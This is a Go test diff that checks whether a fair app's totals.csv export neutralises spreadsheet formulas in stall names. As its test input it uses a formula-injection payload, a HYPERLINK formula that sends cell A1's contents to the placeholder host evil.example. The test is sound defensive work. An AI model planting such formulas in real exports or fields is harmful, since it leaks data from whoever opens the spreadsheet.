@@ -1,6 +1,8 @@
 package app
 
 import (
+	"bytes"
+	"encoding/csv"
 	"net/http"
 	"net/url"
 	"strings"
@@ -89,4 +91,34 @@ func TestRedirectTargetsStayLocal(t *testing.T) {
 		res := e.do(req{Method: "POST", Path: "/slots/any/book", Body: body, Header: formHeader})
 		wantLocation(t, res, "/login?next=%2F")
 	})
+}
+
+func TestTotalsCSVNeutralisesFormulas(t *testing.T) {
+	e := newTestEnv(t)
+	w := newWorld(t, e, "csv-formula")
+	merchant := e.register("formula-csv-formula@example.com", catalog.RoleMerchant)
+	name := `=HYPERLINK("http://evil.example/?"&A1,"open")`
+	stall := e.openStall(t, w.org, merchant.Token, w.slug, name)["id"].(string)
+
+	res := e.do(req{Method: "GET", Path: "/api/v1/fairs/" + w.slug + "/totals.csv", Token: w.org})
+	wantStatus(t, res, http.StatusOK)
+	rows, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
+	if err != nil {
+		t.Fatalf("totals.csv: %v\n%s", err, res.Body)
+	}
+	found := false
+	for _, r := range rows[1:] {
+		if r[0] == stall {
+			found = true
+			if r[1] != "'"+name {
+				t.Errorf("stall name cell %q, want %q", r[1], "'"+name)
+			}
+			if r[2] != "0" || r[3] != "0" {
+				t.Errorf("stall numbers %q, %q: want 0 and 0 as plain numbers", r[2], r[3])
+			}
+		}
+	}
+	if !found {
+		t.Fatalf("no row for stall %s:\n%s", stall, res.Body)
+	}
 }
